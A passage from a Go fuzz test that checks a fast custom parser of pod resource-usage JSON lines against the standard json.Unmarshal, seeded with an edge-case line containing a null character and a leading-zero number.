		if !l.parse(raw) {
			f.Errorf("not accepted: %s", raw)
		}
	}
	f.Add([]byte(`{"type":"USAGE","time":"2026-03-01T00:00:00Z","namespace":"a","pod":"b\u0000","cpuMillicores":[01],"memoryMiB":[]}`))
	f.Fuzz(func(t *testing.T, line []byte) {
		var fast, standard usageLine
		if !fast.parse(line) {
			return
		}
		must.Succeed(t, json.Unmarshal(line, &standard))
		if diff := cmp.Diff(standard, fast); diff != "" {
			t.Fatal(diff)
		}
	})
}
